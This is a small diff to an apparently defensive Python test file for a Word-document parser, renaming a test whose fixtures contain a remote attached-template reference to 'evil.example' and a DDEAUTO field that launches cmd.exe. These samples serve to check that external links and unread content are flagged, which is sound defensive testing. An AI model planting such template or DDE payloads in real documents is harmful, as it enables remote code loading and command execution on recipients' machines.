@@ -314,7 +314,7 @@ def test_the_table_of_contents_is_marked_and_line_breaks_make_lines() -> None:
     ]
 
 
-def test_what_points_outside_is_named_and_what_was_not_read_too() -> None:
+def test_t07_what_points_outside_is_named_and_what_was_not_read_too() -> None:
     outside = '<Relationship Id="t" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
     dde = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>'
     body = p(dde + r("shown words") + '<w:r><w:fldChar w:fldCharType="end"/></w:r>') + '<w:altChunk r:id="c"/>'
